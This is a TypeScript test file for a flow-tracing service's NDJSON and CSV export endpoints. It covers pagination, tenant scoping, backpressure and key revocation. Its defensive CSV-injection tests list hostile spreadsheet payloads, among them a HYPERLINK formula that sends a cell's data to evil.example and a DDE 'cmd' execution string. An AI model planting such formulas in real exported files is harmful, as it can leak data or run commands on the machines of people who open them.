/** Whole lists as files. */
import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import type { FastifyInstance } from "fastify";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { fill } from "../src/demo/fill.ts";
import { demoFlows } from "../src/demo/flows.ts";
import { WeirError } from "../src/errors.ts";
import { csvOf } from "../src/http/csv.ts";
import { type FlowPage, FlowSummary } from "../src/http/schemas.ts";
import type { Store } from "../src/store.ts";
import { flowBody, type Guarded, NOW, startGuarded } from "./access-support.ts";
import { type AppOptions, createApp } from "./created-app.ts";
import { aFlow, createFakeStore } from "./fake-store.ts";

const FLOWS = 1_200;
let weir: Guarded;
let admin: string;

beforeAll(async () => {
  weir = await startGuarded("never");
  admin = await weir.key("admin");
  await fill({
    store: weir.store,
    flows: demoFlows({ flows: FLOWS, tenants: 4, days: 7, seed: 1, now: NOW }),
    now: NOW,
  });
});
afterAll(() => weir.close());

async function get(path: string, key = admin): Promise<string> {
  const response = await weir.fetch(`/api/v1${path}`, key);
  expect(response.status).toBe(200);
  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer());
}

async function everyFlow(query: string): Promise<FlowPage["flows"]> {
  const flows: FlowPage["flows"] = [];
  for (let cursor = ""; ; ) {
    const more = cursor === "" ? "" : `&cursor=${cursor}`;
    const page = JSON.parse(await get(`/flows?limit=500${query}${more}`)) as FlowPage;
    flows.push(...page.flows);
    if (page.nextCursor === null) return flows;
    cursor = page.nextCursor;
  }
}

/** As RFC 4180 says, and no more. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const rest = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/gy;
  while (rest.lastIndex < text.length) {
    const at = rest.lastIndex;
    const [, cell, end] = rest.exec(text) ?? [];
    if (cell === undefined) throw new Error(`not CSV from ${at}: ${JSON.stringify(text.slice(at, at + 80))}`);
    row.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
    if (end === ",") continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

test("lines of JSON are the flows of all pages, as the API gives them", async () => {
  const lines = (await get("/flows.ndjson")).trimEnd().split("\n");
  expect(lines).toHaveLength(FLOWS);
  expect(lines.map((line) => JSON.parse(line))).toEqual(await everyFlow(""));
});

test("CSV has a row for each, and a column for each thing that is known of one", async () => {
  const text = await get("/flows.csv?tenant=acme-corp&order=oldest");
  expect(text.startsWith("\uFEFFtenant,id,name,status,")).toBe(true);
  const [names = [], ...rows] = readCsv(text.slice(1));
  const flows = await everyFlow("&tenant=acme-corp&order=oldest");
  expect(rows).toHaveLength(flows.length);
  expect(names).toEqual(
    expect.arrayContaining(["durationMs", "error.type", "stepCounts.total", "parent.id", "labels"]),
  );
  expect(names).not.toContain("error.stack");
  const column = (name: string) => rows.map((row) => row[names.indexOf(name)]);
  expect(column("id")).toEqual(flows.map(({ id }) => id));
  expect(column("durationMs")).toEqual(flows.map(({ durationMs }) => String(durationMs ?? "")));
  expect(column("error.message")).toEqual(flows.map(({ error }) => error?.message ?? ""));
  expect(column("services")).toEqual(flows.map(({ services }) => services.join(", ")));
  expect(column("labels").map((each) => JSON.parse(each ?? ""))).toEqual(flows.map(({ labels }) => labels));
});

test("the other lists too", async () => {
  const { tenants } = JSON.parse(await get("/tenants?limit=500&order=name"));
  const read = async (path: string) =>
    (await get(path))
      .split("\n")
      .filter(Boolean)
      .map((line) => JSON.parse(line));
  expect(await read("/tenants.ndjson")).toEqual(tenants);
  expect(await read("/stats.ndjson?groupBy=step")).toEqual(
    JSON.parse(await get("/stats?groupBy=step")).groups,
  );
  expect(await read("/stats/errors.ndjson?limit=3")).toEqual(
    JSON.parse(await get("/stats/errors?limit=3")).errors,
  );
  expect(await read("/stuck.ndjson")).toEqual(JSON.parse(await get("/stuck?limit=500")).flows);
  for (const list of ["tenants", "stats", "stats/errors", "stuck"]) {
    const rows = readCsv((await get(`/${list}.csv`)).slice(1));
    expect(rows.every(({ length }) => length === rows[0]?.length)).toBe(true);
  }
});

describe("what others wrote", () => {
  const HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    '"=1+1"',
    'a,"b"\r\n=c',
    "plain; text",
    "Zoë 😀",
    "1e5",
  ];

  test("is text in a spreadsheet, never a formula, and comes back as it was but for the apostrophe", () => {
    const { line } = csvOf(FlowSummary);
    for (const text of HOSTILE) {
      const error = { type: text, message: text, stack: null };
      const [cells = []] = readCsv(
        line({ ...aFlow(), name: text, failedStep: text, error, services: [text] }),
      );
      const isFormula = /^\s*[=+\-@＝]|^[\t\r]/.test(text);
      expect(cells.filter((cell) => cell === (isFormula ? `'${text}` : text))).toHaveLength(5);
      for (const cell of cells) expect(cell).not.toMatch(/^\s*[=+@＝＋＠]|^[\t\r\n]|^\s*-\D/);
    }
  });

  test("numbers stay numbers, also below zero", () => {
    const { line } = csvOf(FlowSummary);
    expect(readCsv(line({ ...aFlow(), durationMs: -2.5 }))[0]).toContain("-2.5");
  });

  test("arrives so over the whole way", async () => {
    const sender = await weir.key("ingest");
    const labels = { "weir.label.note": HOSTILE[0] as string, "weir.flow.name": "=1+1" };
    await weir.fetch("/v1/traces", sender, flowBody("hostile", "@flow", labels));
    const [names = [], row = []] = readCsv((await get("/flows.csv?tenant=hostile")).slice(1));
    expect(row[names.indexOf("id")]).toBe("'@flow");
    expect(row[names.indexOf("name")]).toBe("'=1+1");
    expect(JSON.parse(row[names.indexOf("labels")] as string)).toMatchObject({ note: HOSTILE[0] });
  });
});

test("is a file to keep, in the form that was asked for", async () => {
  const { headers } = await weir.fetch("/api/v1/flows.csv?tenant=nobody", admin);
  expect(headers.get("content-type")).toBe("text/csv; charset=utf-8");
  expect(headers.get("content-disposition")).toBe('attachment; filename="weir-flows.csv"');
  expect(headers.get("cache-control")).toBe("no-store");
  expect((await get("/flows.ndjson?tenant=nobody")).length).toBe(0);
  expect(readCsv((await get("/flows.csv?tenant=nobody")).slice(1))).toHaveLength(1);
  const head = await weir.fetch("/api/v1/flows.csv", admin, { method: "HEAD" });
  expect([head.status, await head.text()]).toEqual([200, ""]);
});

test("a key that is bound to a customer gets that customer's", async () => {
  const bound = await weir.key("read", "acme-corp");
  const flows = (await get("/flows.ndjson", bound))
    .trimEnd()
    .split("\n")
    .map((line) => JSON.parse(line).tenant);
  expect(new Set(flows)).toEqual(new Set(["acme-corp"]));
  expect(await get("/flows.ndjson?tenant=globex-labs", bound)).toBe("");
  expect(readCsv((await get("/stats.csv?tenant=globex-labs", bound)).slice(1))).toHaveLength(1);
});

describe("from a store without end", () => {
  const apps: FastifyInstance[] = [];
  afterEach(async () => {
    for (const app of apps.splice(0)) {
      // `fetch` opens a connection to spare where one was broken off, and Node waits for a first request on it.
      app.server.closeAllConnections();
      await app.close();
    }
  });

  async function start(flows: Store["flows"], exports: AppOptions["exports"] = {}) {
    const app = createApp({ store: { ...createFakeStore(), flows }, exports });
    apps.push(app);
    await app.listen({ port: 0, host: "127.0.0.1" });
    return (app.server.address() as { port: number }).port;
  }

  /** Who asks, and takes nothing as yet. */
  function reader(port: number): Socket {
    const socket = connect(port, "127.0.0.1").on("error", () => {});
    socket.pause().write("GET /api/v1/flows.ndjson HTTP/1.1\r\nHost: localhost\r\n\r\n");
    return socket;
  }

  /** What one more is told, who leaves at once. */
  async function statusFor(port: number): Promise<number> {
    const { status, body } = await fetch(`http://127.0.0.1:${port}/api/v1/flows.csv`);
    await body?.cancel();
    return status;
  }

  const page = (nextCursor: string | null) => ({
    items: Array.from({ length: 500 }, () => aFlow()),
    nextCursor,
    prevCursor: null,
    partial: false,
  });

  test("no more is asked for than its reader takes, and nothing once he is gone", async () => {
    let asked = 0;
    const port = await start(async () => {
      asked += 1;
      return page("more");
    });
    const sockets = Array.from({ length: 8 }, () => reader(port));
    const quiet = async () => {
      for (let before = -1; before !== asked; ) {
        before = asked;
        await new Promise((resolve) => setTimeout(resolve, 150));
      }
    };
    await quiet();
    // What the kernel holds of eight connections, and a page or two each.
    expect(asked).toBeLessThan(8 * 40);
    const refused = await fetch(`http://127.0.0.1:${port}/api/v1/flows.csv`);
    expect([refused.status, refused.headers.get("retry-after")]).toEqual([429, "1"]);
    expect(await refused.json()).toMatchObject({ error: { code: "overloaded" } });

    for (const socket of sockets) socket.destroy();
    await expect.poll(() => statusFor(port)).toBe(200);
    await quiet();
    const before = asked;
    await quiet();
    expect(asked).toBe(before);
  });

  test("a reader who takes nothing gives up his place in time; one who is slow keeps it, as does one whom the store lets wait", async () => {
    const stalledMs = 1_600;
    let isStoreSlow = false;
    let asked = 0;
    const store = async () => {
      asked += 1;
      if (isStoreSlow) await sleep(1.5 * stalledMs);
      return page("more");
    };
    const port = await start(store, { stalledMs });
    const slow = reader(port);
    let left = 0;
    slow.on("data", ({ length }) => {
      left -= length;
      if (left > 0) return;
      // More at a time than the kernel holds for him: what was written before has left.
      left = 8_000_000;
      slow.pause();
      setTimeout(() => slow.resume(), stalledMs / 10);
    });
    slow.resume();
    const stuck = Array.from({ length: 7 }, () => reader(port));
    await expect.poll(() => statusFor(port)).toBe(429);
    await expect.poll(() => statusFor(port), { timeout: 10 * stalledMs }).toBe(200);

    isStoreSlow = true;
    await sleep(1.5 * stalledMs);
    isStoreSlow = false;
    const before = asked;
    await expect.poll(() => asked, { timeout: 10 * stalledMs }).toBeGreaterThan(before + 3);
    expect(slow.destroyed).toBe(false);
    for (const socket of [slow, ...stuck]) socket.destroy();
  });

  test("what fails before the first piece is an error, and later the file breaks off", async () => {
    let pages = 0;
    const fails = async () => {
      pages += 1;
      if (pages === 1 || pages === 3) throw new WeirError("unavailable", "the store is away");
      return page("more");
    };
    const port = await start(fails);
    const url = `http://127.0.0.1:${port}/api/v1/flows.csv`;
    const first = await fetch(url);
    expect([first.status, first.headers.get("content-disposition")]).toEqual([503, null]);
    const second = await fetch(url);
    expect(second.status).toBe(200);
    await expect(second.text()).rejects.toThrow();
  });
});

test("customers of whom not all could be put in order are no file", async () => {
  const store = createFakeStore();
  const app = createApp({
    store: { ...store, tenants: async (query) => ({ ...(await store.tenants(query)), complete: false }) },
  });
  const answer = await app.inject("/api/v1/tenants.csv?order=attention");
  await app.close();
  expect(answer.statusCode).toBe(400);
  expect(answer.json()).toMatchObject({
    error: { message: expect.stringMatching(/^order: expected name, .*ask for fewer with q$/) },
  });
});

test("breaks off where its key is revoked meanwhile", async () => {
  const { app, access, store } = weir;
  const key = await weir.key("read");
  const original = store.flows;
  try {
    let pages = 0;
    store.flows = async (query) => {
      pages += 1;
      if (pages === 2) await access.revokeKey(key.split("_")[2] as string, { by: "test", at: NOW });
      return original({ ...query, limit: 100 });
    };
    const response = await app
      .inject({ url: "/api/v1/flows.ndjson", headers: { authorization: `Bearer ${key}` } })
      .then(
        (answer) => answer.body,
        (error: unknown) => error,
      );
    const lines = typeof response === "string" ? response.trimEnd().split("\n").length : 0;
    expect(lines).toBeLessThan(200);
    expect(pages).toBe(2);
  } finally {
    store.flows = original;
  }
});
